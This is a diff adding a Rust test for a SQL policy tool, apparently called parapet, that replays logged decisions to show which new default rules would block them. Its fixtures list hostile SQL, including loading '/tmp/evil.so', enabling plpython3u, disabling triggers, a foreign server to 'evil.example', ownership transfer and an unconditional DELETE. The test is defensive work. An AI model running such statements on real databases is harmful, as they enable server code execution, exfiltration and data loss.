@@ -311,3 +311,92 @@ fn replay_judges_at_the_time_of_the_event() {
     assert_eq!(rep["unchanged"], 1);
     assert_eq!(rep["judged_at_current_time"], 1);
 }
+
+/// Decisions the pack before issue 17 allowed: replaying them under today's default pack shows
+/// which new rule would have blocked each.
+#[test]
+fn replay_shows_what_the_new_default_rules_block() {
+    let dir = tempfile::tempdir().unwrap();
+    let log = dir.path().join("log");
+    let key = dir.path().join("log.key");
+    parapet_log::Log::init(&log, "example.test/parapet-replay-pack", &key).expect("init log");
+    let allowed_before = [
+        ("LOAD '/tmp/evil.so'", "parapet.server-code"),
+        (
+            "CREATE EXTENSION IF NOT EXISTS plpython3u",
+            "parapet.server-code",
+        ),
+        (
+            "SET session_replication_role = replica",
+            "parapet.integrity-bypass",
+        ),
+        (
+            "ALTER TABLE accounts DISABLE TRIGGER ALL",
+            "parapet.integrity-bypass",
+        ),
+        (
+            "CREATE SERVER evil FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil.example')",
+            "parapet.data-egress",
+        ),
+        ("ALTER TABLE accounts OWNER TO mallory", "parapet.ownership"),
+        (
+            "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'",
+            "parapet.ownership",
+        ),
+        ("SELECT pg_promote()", "parapet.cluster-control"),
+        (
+            "DELETE FROM accounts WHERE true",
+            "parapet.delete-without-where",
+        ),
+    ];
+    let rt = tokio::runtime::Runtime::new().unwrap();
+    rt.block_on(async {
+        let l = parapet_log::Log::open(&log, &key).expect("open log");
+        for (sql, _) in allowed_before {
+            l.append(decision_event(Some(sql), sql, "allow", &[]))
+                .await
+                .expect("append");
+        }
+        // Harmless look-alikes stay allowed.
+        for sql in [
+            "CREATE EXTENSION pgcrypto",
+            "ALTER TABLE accounts ENABLE TRIGGER ALL",
+            "DELETE FROM accounts WHERE id = 7 AND true",
+        ] {
+            l.append(decision_event(Some(sql), sql, "allow", &[]))
+                .await
+                .expect("append");
+        }
+        l.close().await.expect("close");
+    });
+    let out = parapet(
+        &[
+            "policy",
+            "replay",
+            "--log",
+            &log.display().to_string(),
+            "--json",
+            "--examples",
+            "5",
+        ],
+        None,
+    );
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let rep: Value = serde_json::from_str(&text(&out.stdout)).expect("JSON report");
+    assert_eq!(rep["decisions"], 12, "{rep}");
+    assert_eq!(rep["newly_blocked"], 9, "{rep}");
+    assert_eq!(rep["unchanged"], 3, "{rep}");
+    for (sql, rule) in allowed_before {
+        let examples = rep["newly_blocked_by_rule"][rule]["examples"]
+            .as_array()
+            .unwrap_or_else(|| panic!("no newly blocked examples for {rule}: {rep}"));
+        assert!(
+            examples.iter().any(|e| e == sql),
+            "{sql:?} is not reported as newly blocked by {rule}: {rep}"
+        );
+    }
+    assert_eq!(
+        rep["newly_blocked_by_rule"]["parapet.ownership"]["count"],
+        2
+    );
+}
